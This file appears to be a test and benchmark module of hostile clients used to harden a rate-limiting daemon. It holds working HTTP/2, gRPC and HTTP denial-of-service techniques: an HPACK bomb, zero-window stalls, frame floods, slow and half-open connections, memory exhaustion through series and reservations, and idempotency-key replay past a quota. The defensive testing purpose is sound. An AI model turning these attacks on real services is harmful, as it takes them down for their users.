"""Hostile clients of the daemon's listeners, each driven as far as the daemon lets it go: the
hardening tests (tests/daemon/test_attacks*.py) assert what they can hold, the attack bench
(bench/attacks.py) measures them before and after, and the soak (bench/soak.py) mixes them
into valid traffic.

Every attacker is a coroutine that returns once it holds what it can (a `Held` of its
connections, to close when the measurement is taken) or has done its damage.
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import socket
import struct
import threading
import time
from collections.abc import Awaitable, Callable
from dataclasses import dataclass, field

import grpc
import httpx
from hpack import Encoder, NeverIndexedHeaderTuple
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    HeadersFrame,
    PriorityFrame,
    WindowUpdateFrame,
)

from ratelimitd.messages import CODE_NAMES, Descriptor
from ratelimitd.transport.grpc import METHOD_PATH
from ratelimitd.transport.protocodec import decode_response, encode_request

from .h2raw import GOAWAY, Raw, grpc_message

# A gRPC request with a grpc-timeout nobody would wait for (grpc-go's largest).
FOREVER = "99999999H"
# The first bytes of a TLS ClientHello: the server starts a handshake and waits for the rest.
CLIENT_HELLO = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03"
INITIAL_WINDOW_SIZE = 0x4
# The rules the /json attackers' requests (domain d, key k) are decided on.
JSON_CONFIG = """\
domain: d
descriptors:
  - key: k
    rate_limit: {unit: hour, requests_per_unit: 1000000000}
"""
# A token-budget rule (domain llm, key user) for the budget attackers: reservations of
# 10 minutes, as the README's example.
BUDGET_CONFIG = """\
domain: llm
descriptors:
  - key: user
    rate_limit: {unit: hour, requests_per_unit: 1000000000}
    budget: {unsettled: release, reservation_ttl: 10m}
"""
# The usage API's metered endpoint (sidecars.usage.settings.USAGE_PATH).
USAGE = "/api/v2/user/usage"
# Above this many descriptors the service slices a request, so even the memory backend
# answers it from a task, with its deadline watched.
SLICED = 257


@dataclass
class Held:
    """What an attacker keeps open: raw HTTP/2 clients and plain sockets."""

    clients: list[Raw] = field(default_factory=list)
    sockets: list[socket.socket] = field(default_factory=list)

    def close(self) -> None:
        """Close everything (the attack ends)."""
        for raw in self.clients:
            raw.writer.close()
        for sock in self.sockets:
            with contextlib.suppress(OSError):
                sock.close()
        self.clients.clear()
        self.sockets.clear()

    def open_sockets(self) -> int:
        """How many of the sockets the server has not closed (what they were sent is read
        and dropped, without blocking)."""
        return sum(_open(sock) for sock in self.sockets)


def _open(sock: socket.socket) -> bool:
    try:
        sock.setblocking(False)
        while sock.recv(65536):
            pass
    except BlockingIOError:
        return True
    except OSError:
        pass
    return False


def padded_request(domain: str, descriptors: int, size: int) -> bytes:
    """A valid RateLimitRequest (`descriptors` descriptors k=v<i>) padded to about `size`
    bytes with an unknown field, which the decoders skip."""
    body = encode_request(domain, [[("k", f"v{i}")] for i in range(descriptors)])
    pad = max(0, size - len(body) - 8)
    return body + b"\x7a" + _varint(pad) + b"\x00" * pad  # field 15, length-delimited


def many_descriptors(domain: str, n: int) -> bytes:
    """A RateLimitRequest of `n` one-entry descriptors (key k, empty value: 7 bytes each),
    built without protobuf."""
    entry = b"\x0a\x01k"
    descriptor = b"\x12" + _varint(len(entry) + 2) + b"\x0a" + _varint(len(entry)) + entry
    head = b"\x0a" + _varint(len(domain)) + domain.encode()
    return head + descriptor * n


def _varint(n: int) -> bytes:
    out = bytearray()
    while n >= 0x80:
        out.append((n & 0x7F) | 0x80)
        n >>= 7
    out.append(n)
    return bytes(out)


async def answered_deadline_calls(port: int, calls: int, size: int, domain: str = "test") -> None:
    """`calls` answered calls of `size` bytes, each with a grpc-timeout of 99999999H,
    decided from a task (sliced), then the connection closed."""
    raw = await Raw.open(port)
    body = grpc_message(padded_request(domain, SLICED, size))
    try:
        for i in range(calls):
            stream = 1 + 2 * i
            await raw.upload(stream, body, grpc_timeout=FOREVER)
            end = await raw.stream_end(stream)
            assert end.get("grpc-status") == "0", end
    finally:
        raw.writer.close()


async def zero_window(
    port: int, calls: int, size: int, domain: str = "test", descriptors: int = 1
) -> Held:
    """One connection announcing INITIAL_WINDOW_SIZE=0, so no reply body can leave, sending
    `calls` valid calls of `descriptors` descriptors padded to `size` bytes; kept open."""
    raw = await Raw.open(port, settings={INITIAL_WINDOW_SIZE: 0})
    raw.acknowledge = False
    body = grpc_message(padded_request(domain, descriptors, size))
    for i in range(calls):
        await raw.upload(1 + 2 * i, body)
    return Held(clients=[raw])


def hpack_bomb_blocks(blocks: int, value: int = 4000) -> list[bytes]:
    """HEADERS blocks of nine frames (HEADERS + 8 CONTINUATION, nghttp2's most), each a
    request head then references to one `value`-byte header: the first block adds it to
    the HPACK table, every block refers to it ~143,000 times (one byte each)."""
    # Never indexed: the bomb header stays the newest entry of the table (index 62).
    head = Encoder().encode([NeverIndexedHeaderTuple(k, v) for k, v in Raw.headers()])
    # A literal with incremental indexing, new name; the value's length as an HPACK integer
    # (7-bit prefix full, then the rest as a varint).
    literal = b"\x40\x06x-bomb" + b"\x7f" + _varint(value - 127) + b"v" * value
    out = []
    for i in range(blocks):
        block = head + (literal if i == 0 else b"")
        block += b"\xbe" * (9 * 16384 - len(block))
        frames = [block[j : j + 16384] for j in range(0, len(block), 16384)]
        stream = 1 + 2 * i
        data = HeadersFrame(stream, frames[0]).serialize()
        for k, chunk in enumerate(frames[1:], 1):
            flags = ["END_HEADERS"] if k == len(frames) - 1 else []
            data += ContinuationFrame(stream, chunk, flags=flags).serialize()
        out.append(data)
    return out


async def hpack_bomb(port: int, blocks: int) -> Raw:
    """`blocks` bomb header blocks on one connection; returns it once all are sent."""
    raw = await Raw.open(port)
    for data in hpack_bomb_blocks(blocks):
        raw.send(data)
        await raw.writer.drain()
    return raw


# One frame of each kind that does no work: an empty DATA frame (on an open stream), a
# PRIORITY frame on an idle stream, a connection WINDOW_UPDATE of one byte, a frame of an
# unknown type (0xfa, empty). The stream is the one `idle_frames` opens.
IDLE_FRAME_KINDS = {
    "empty_data": lambda stream: DataFrame(stream, b"").serialize(),
    "priority": lambda stream: PriorityFrame(stream + 1000, depends_on=0).serialize(),
    "window_update": lambda stream: WindowUpdateFrame(0, 1).serialize(),
    "unknown": lambda stream: b"\x00\x00\x00\xfa\x00\x00\x00\x00\x00",
}


async def idle_frames(raw: Raw, kind: str, n: int, stream: int = 0) -> None:
    """`n` frames of `kind` (IDLE_FRAME_KINDS) on `raw`, in 16 KiB writes; "empty_data"
    first opens `stream` (or the next free one) with a request head and no body."""
    if kind == "empty_data":
        stream = stream or 1 + 2 * len({f.stream for f in raw.frames if f.stream})
        head = raw.block(raw.headers())
        raw.send(HeadersFrame(stream, head, flags=["END_HEADERS"]).serialize())
    frame = IDLE_FRAME_KINDS[kind](stream or 1)
    per_write = max(1, 16384 // len(frame))
    for done in range(0, n, per_write):
        raw.send(frame * min(per_write, n - done))
        await raw.writer.drain()


async def frame_flood(port: int, kind: str, seconds: float) -> Held:
    """One connection sending frames of `kind` (IDLE_FRAME_KINDS) for `seconds`, or until
    the server closes it."""
    raw = await Raw.open(port)
    deadline = time.monotonic() + seconds
    with contextlib.suppress(ConnectionError):
        while time.monotonic() < deadline and not raw.writer.is_closing():
            await idle_frames(raw, kind, 10_000, stream=1)
    return Held(clients=[raw])


async def hpack_bomb_flood(port: int, seconds: float) -> Held:
    """One connection sending HPACK bomb blocks (`hpack_bomb_blocks`) for `seconds`, or
    until the server closes it."""
    raw = await Raw.open(port)
    blocks = hpack_bomb_blocks(2)
    data, later = blocks[0], blocks[1]
    stream = 1
    deadline = time.monotonic() + seconds
    with contextlib.suppress(ConnectionError):
        while time.monotonic() < deadline and not raw.writer.is_closing():
            raw.send(data)
            await raw.writer.drain()
            stream += 2
            data = _restream(later, stream)
    return Held(clients=[raw])


def _restream(block: bytes, stream: int) -> bytes:
    """A header block's frames (HEADERS + CONTINUATIONs) with another stream id."""
    out = bytearray(block)
    i = 0
    while i < len(out):
        out[i + 5 : i + 9] = struct.pack(">I", stream)
        i += 9 + int.from_bytes(out[i : i + 3], "big")
    return bytes(out)


def percentile(values: list[float], q: float) -> float:
    """The `q` quantile (0..1) of `values` (0.0 for none)."""
    if not values:
        return 0.0
    ordered = sorted(values)
    return ordered[min(len(ordered) - 1, int(q * len(ordered)))]


async def probe(target: str, seconds: float, domain: str = "test") -> list[float]:
    """A well-behaved client deciding one call after another for `seconds` on one gRPC
    channel, as an Envoy sidecar does: each decision's wall-clock seconds (a failed call
    counts as its 5 s deadline)."""
    took: list[float] = []
    options = [("grpc.use_local_subchannel_pool", 1)]
    async with grpc.aio.insecure_channel(target, options=options) as channel:
        call = channel.unary_unary(METHOD_PATH)
        request = encode_request(domain, [[("k", "v")]])
        await call(request, timeout=5)
        deadline = time.monotonic() + seconds
        while time.monotonic() < deadline:
            start = time.perf_counter()
            try:
                await call(request, timeout=5)
            except grpc.aio.AioRpcError:
                took.append(5.0)
                continue
            took.append(time.perf_counter() - start)
    return took


async def ended(raw: Raw) -> bool:
    """Whether the server ended the connection: its GOAWAY arrived, or it closed it
    (what it sent is read for up to a second)."""
    with contextlib.suppress(AssertionError, ConnectionError):
        await raw.read_until(lambda f: f.type == GOAWAY, timeout=1)
    return raw.closed or any(f.type == GOAWAY for f in raw.frames)


def in_thread(attack: Callable[[], Awaitable[Held]]) -> asyncio.Future[bool]:
    """Start an active attacker, run to its end in a thread with its own event loop (so that
    it does not slow down a client measured meanwhile); whether the server closed all of its
    connections."""

    async def attacked() -> bool:
        held = await attack()
        closed = all([await ended(raw) for raw in held.clients])
        clients = list(held.clients)
        held.close()
        for raw in clients:  # retrieves the error a reset connection ended with
            with contextlib.suppress(ConnectionError):
                await raw.writer.wait_closed()
        return closed

    return asyncio.ensure_future(asyncio.to_thread(asyncio.run, attacked()))


def silent_sockets(port: int, n: int, payload: bytes = b"") -> Held:
    """`n` TCP connections that send `payload` (default nothing) and then nothing more."""
    held = Held()
    for _ in range(n):
        try:
            sock = socket.create_connection(("127.0.0.1", port), timeout=5)
        except OSError:
            continue  # the backlog is full: the server is refusing already
        if payload:
            with contextlib.suppress(OSError):
                sock.sendall(payload)
        held.sockets.append(sock)
    return held


def slow_json_reader(port: int, requests: int, size: int, seconds: float = 2.0) -> Held:
    """Pipelines up to `requests` POST /json of about `size` bytes, 1,000 descriptors k=<1 KB>
    each (so that their answers are large enough to fill the socket), never reading an
    answer, for at most `seconds` (until the server stops reading)."""
    value = "v" * max(1, size // 1000 - 60)
    entries = [{"entries": [{"key": "k", "value": value}]}] * 1000
    body = json.dumps({"domain": "d", "descriptors": entries}).encode()
    one = b"POST /json HTTP/1.1\r\nHost: x\r\nContent-Length: %d\r\n\r\n" % len(body) + body
    sock = socket.create_connection(("127.0.0.1", port), timeout=5)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    sock.settimeout(0.2)
    deadline = time.monotonic() + seconds
    data = memoryview(one * requests)
    while data and time.monotonic() < deadline:
        try:
            data = data[sock.send(data) :]
        except TimeoutError:
            continue
        except OSError:
            break
    return Held(sockets=[sock])


async def partial_bodies(port: int, conns: int, size: int, sent: int) -> Held:
    """`conns` connections, each with one call announcing a `size`-byte message of which
    only `sent` bytes arrive; kept open."""
    held = Held()
    prefix = b"\x00" + struct.pack(">I", size)
    for _ in range(conns):
        raw = await Raw.open(port)
        await raw.upload(1, prefix + b"\x00" * sent, end=False)
        held.clients.append(raw)
    return held


async def negative_prefix(port: int) -> dict[str, str]:
    """A message prefix announcing 2^32-1 bytes: the end of its stream, as answered."""
    raw = await Raw.open(port)
    try:
        await raw.upload(1, b"\x00\xff\xff\xff\xff" + b"x" * 100, end=False)
        return await raw.stream_end(1)
    finally:
        raw.writer.close()


async def long_series(
    target: str,
    requests: int,
    descriptors: int = 1000,
    value_bytes: int = 4000,
    domain: str = "d",
    tag: str = "",
) -> list[str]:
    """`requests` gRPC calls (host:port `target`), each of `descriptors` limit overrides
    with distinct `value_bytes`-byte values: every one names a new statistics series after
    its value. `tag` makes the values distinct from another run's. The answers' codes."""
    answers = []
    async with grpc.aio.insecure_channel(target) as channel:
        call = channel.unary_unary(METHOD_PATH)
        for r in range(requests):
            body = encode_request(
                domain,
                [
                    Descriptor((("o", f"{tag}{r:04d}-{i:04d}".ljust(value_bytes, "x")),), (5, 1))
                    for i in range(descriptors)
                ],
            )
            try:
                await call(body, timeout=60)
                answers.append("OK")
            except grpc.aio.AioRpcError as err:
                answers.append(err.code().name)
    return answers


def unread_pages(port: int, path: str, n: int) -> Held:
    """`n` connections, each asking `GET path` (/stats, /metrics) and never reading the
    answer (a small receive buffer, so the server holds what it could not send)."""
    held = Held()
    for _ in range(n):
        sock = socket.socket()
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        try:
            sock.settimeout(5)
            sock.connect(("127.0.0.1", port))
            sock.sendall(f"GET {path} HTTP/1.1\r\nHost: x\r\n\r\n".encode())
        except OSError:
            sock.close()
            continue
        held.sockets.append(sock)
    return held


async def budget_transactions(
    target: str, requests: int, per_request: int = 1000, user: str = "mallory", tag: str = ""
) -> dict[str, int]:
    """`requests` gRPC calls (host:port `target`) on BUDGET_CONFIG's budget of `user`, each
    of `per_request` reserves with distinct 64-byte transaction ids, never settled: every
    one is a transaction the store keeps for two TTLs. `tag` makes the ids distinct from
    another run's. The descriptors' codes by name (OK, OVER_LIMIT) and failed calls."""
    counts: dict[str, int] = {}
    async with grpc.aio.insecure_channel(target) as channel:
        call = channel.unary_unary(METHOD_PATH)
        for r in range(requests):
            reserves = [
                Descriptor(
                    (
                        ("phase", "reserve"),
                        ("user", user),
                        ("txn", f"{tag}{r:06d}-{i:05d}".ljust(64, "t")),
                    ),
                    hits_addend=1,
                )
                for i in range(per_request)
            ]
            try:
                reply = decode_response(await call(encode_request("llm", reserves), timeout=60))
            except grpc.aio.AioRpcError as err:
                counts[err.code().name] = counts.get(err.code().name, 0) + 1
                continue
            for status in reply.statuses:
                name = CODE_NAMES[status.code]
                counts[name] = counts.get(name, 0) + 1
    return counts


def idempotency_replays(base: str, token: str, replays: int = 20, path: str = USAGE) -> dict:
    """Against a usage API at `base` whose `path` is metered (not quota-exempt): one request
    with an Idempotency-Key, then requests without one until the quota refuses, then
    `replays` retries of the first key. What the retries got: statuses, and how many were
    served afresh (a body other than the first answer's) past the quota."""
    auth = {"Authorization": f"Bearer {token}"}
    keyed = {**auth, "Idempotency-Key": "attack-replay-1"}
    with httpx.Client(base_url=base, timeout=10) as client:
        first = client.get(path, headers=keyed)
        served = 1
        while (refusal := client.get(path, headers=auth)).status_code == 200 and served < 10_000:
            served += 1
        answers = [client.get(path, headers=keyed) for _ in range(replays)]
    statuses: dict[str, int] = {}
    for a in answers:
        statuses[str(a.status_code)] = statuses.get(str(a.status_code), 0) + 1
    return {
        "served_before_the_quota": served,
        "quota_refusal": f"{refusal.status_code} {refusal.json().get('error')}",
        "replays": statuses,
        "replays_served_afresh": sum(
            a.status_code == 200 and a.content != first.content for a in answers
        ),
        "replays_byte_for_byte": sum(a.content == first.content for a in answers),
    }


def scrape_loop(port: int, path: str, stop: threading.Event) -> int:
    """GET `path` on 127.0.0.1:`port` again and again, reading each answer whole, until
    `stop` is set (a scraper at its fastest); the answers read."""
    done = 0
    with httpx.Client(base_url=f"http://127.0.0.1:{port}", timeout=120) as client:
        while not stop.is_set():
            try:
                client.get(path).read()
            except httpx.HTTPError:
                continue
            done += 1
    return done
